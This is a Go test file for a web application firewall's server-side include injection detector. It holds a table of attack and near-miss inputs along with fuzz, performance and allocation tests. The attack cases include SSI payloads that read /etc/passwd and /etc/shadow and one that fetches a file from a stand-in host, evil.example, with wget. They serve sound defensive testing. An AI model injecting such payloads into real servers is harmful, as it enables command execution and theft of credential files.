package ssi

import (
	"strings"
	"testing"

	"github.com/portcullis-waf/portcullis/waf/detect"
	tt "github.com/portcullis-waf/portcullis/waf/detect/internal/tabletest"
)

const (
	q    = detect.WhereQuery
	form = detect.WhereForm
	hdr  = detect.WhereHeader
	body = detect.WhereBody
	fn   = detect.WhereFileName
)

// Issue 15: a detector for server-side includes.
var cases = []tt.Case{
	{Value: `<!--#exec cmd="id" -->`, Where: q, Want: tt.Attack},
	{Value: `<!--#exec cmd="cat /etc/passwd"-->`, Where: form, Want: tt.Attack},
	{Value: `<!--#exec cgi="/cgi-bin/counter.pl" -->`, Where: form, Want: tt.Attack},
	{Value: "<!--#exec cmd='wget http://evil.example/x -O /tmp/x' -->", Where: hdr, Want: tt.Attack},
	{Value: "<!--#EXEC CMD=\"ls\" -->", Where: q, Want: tt.Attack},
	{Value: "<!--# exec cmd=`uname -a` -->", Where: q, Want: tt.Attack},
	{Value: "<!--#exec\tcmd=ls-->", Where: q, Want: tt.Attack},
	{Value: "<!--#exec cmd=\"id\"", Where: q, Want: tt.Attack}, // the page closes it
	{Value: `<!--#include virtual="/etc/passwd" -->`, Where: q, Want: tt.Attack},
	{Value: `<!--#include file="../../../../etc/shadow"-->`, Where: fn, Want: tt.Attack},
	{Value: `Nice post! <!--#include virtual="/cgi-bin/x.cgi?a=b" --> thanks`, Where: form, Want: tt.Attack},
	{Value: `<!--#echo var="DOCUMENT_ROOT" -->`, Where: q, Want: tt.Attack},
	{Value: `<!--#echo encoding="none" var="QUERY_STRING_UNESCAPED" -->`, Where: q, Want: tt.Attack},
	{Value: `<!--#printenv -->`, Where: q, Want: tt.Attack},
	{Value: `<!--#printenv-->`, Where: body, Want: tt.Attack},
	{Value: `<!--#fsize file="/etc/passwd" -->`, Where: q, Want: tt.Attack},
	{Value: `<!--#flastmod virtual="/index.html" -->`, Where: q, Want: tt.Attack},
	{Value: `<!--#set var="x" value="<script>" --><!--#echo var="x" -->`, Where: q, Want: tt.Attack},
	{Value: `<!--#config errmsg="[oops]" -->`, Where: q, Want: tt.Attack},
	{Value: `<!--#if expr="$REMOTE_ADDR = /^10/" -->`, Where: q, Want: tt.Attack},
	{Value: `<!--#comment--> <!--#exec cmd="id" -->`, Where: q, Want: tt.Attack},
	{Value: `<!--#echo var="a b" default="<!--#exec cmd="id" -->`, Where: q, Want: tt.Attack},

	// Near-misses: comments, anchors, preprocessor lines, prose.
	{Value: "<!-- a comment -->", Where: form, Want: tt.None},
	{Value: "<!--[if IE]><p>old</p><![endif]-->", Where: form, Want: tt.None},
	{Value: "#include <stdio.h>\nint main(void) { return 0; }", Where: form, Want: tt.None},
	{Value: "see https://example.com/page#exec-summary", Where: q, Want: tt.None},
	{Value: "The exec cmd option runs a command; include virtual files with care.", Where: form, Want: tt.None},
	{Value: "<!--#includes are a server feature -->", Where: form, Want: tt.None},
	{Value: "<!--#exec -->", Where: form, Want: tt.Benign},
	{Value: "<!--#exec:", Where: form, Want: tt.None},
	{Value: "<!--#else -->", Where: form, Want: tt.Weak},
	{Value: "<!--#", Where: form, Want: tt.None},
	{Value: "<!--#exec cmd=", Where: form, Want: tt.None},
	{Value: `<!--#exec cmd="unterminated`, Where: form, Want: tt.None},
	{Value: "<!--#foo bar=baz -->", Where: form, Want: tt.None},
	{Value: "<!--# 1 -->", Where: form, Want: tt.None},
}

func TestDetect(t *testing.T) { tt.Run(t, New(), cases) }

func TestEvidenceSpan(t *testing.T) {
	v := `hello <!--#exec cmd="id" --> world`
	f, ok := New().Detect(detect.Input{Value: v, Where: q})
	if !ok || detect.Evidence(v, f, 100) != `<!--#exec cmd="id" -->` {
		t.Fatalf("%+v %v: evidence %q", f, ok, detect.Evidence(v, f, 100))
	}
}

func TestPadded(t *testing.T) {
	v := strings.Repeat("lorem ipsum ", 8000) + `<!--#exec cmd="id" -->`
	f, ok := New().Detect(detect.Input{Value: v, Where: form})
	if !ok || f.Confidence < tt.AttackConfidence || f.Start < 8000*12-1 {
		t.Fatalf("padded directive: %+v %v", f, ok)
	}
}

// maxStepsPerByte: the scan plus one bounded parse per "<!--#" (5 bytes).
const maxStepsPerByte = 1 + maxDirective/5 + 1

func steps(v string) (detect.Finding, bool, int) {
	var s scan
	f, ok := s.run(v)
	return f, ok, s.steps
}

func TestStepsLinear(t *testing.T) {
	for _, unit := range []string{"<!--#", "<!--#exec ", "<!--#exec cmd=\"", "<!--#echo var=a ", "<!--#include virtual='", "-->"} {
		v := strings.Repeat(unit, 10000)
		_, _, n := steps(v)
		if bound := tt.StepBound(len(v), maxStepsPerByte, 64); n > bound {
			t.Errorf("%q x 10000: %d steps > %d", unit, n, bound)
		}
	}
}

func TestDoesNotAllocate(t *testing.T) {
	d := New()
	for _, v := range []string{"hello world", `<!--#exec cmd="id" -->`, "<!-- comment -->"} {
		in := detect.Input{Value: v, Where: q}
		if n := testing.AllocsPerRun(50, func() { d.Detect(in) }); n != 0 {
			t.Errorf("%q: %v allocations", v, n)
		}
	}
}

func FuzzDetect(f *testing.F) {
	tt.Seeds(f, cases)
	d := New()
	f.Fuzz(func(t *testing.T, v string, where uint8) {
		in := detect.Input{Value: v, Where: detect.Where(where % 11), Name: "ARGS:v"}
		fd, ok := d.Detect(in)
		if err := tt.Invariants(d, in, fd, ok); err != nil {
			t.Fatal(err)
		}
		if len(v) <= MaxLen {
			if _, _, n := steps(v); n > tt.StepBound(len(v), maxStepsPerByte, 64) {
				t.Fatalf("%d steps for %d bytes", n, len(v))
			}
		}
	})
}

func BenchmarkDetect(b *testing.B) {
	d := New()
	for _, bc := range []struct{ name, v string }{
		{"prose", strings.Repeat("The quick brown fox jumps over the lazy dog. ", 20)},
		{"directive", `<!--#exec cmd="cat /etc/passwd" -->`},
		{"comments", strings.Repeat("<!-- x --><!--#", 60)},
	} {
		b.Run(bc.name, func(b *testing.B) {
			in := detect.Input{Value: bc.v, Where: q}
			b.ReportAllocs()
			b.SetBytes(int64(len(bc.v)))
			for i := 0; i < b.N; i++ {
				d.Detect(in)
			}
		})
	}
}
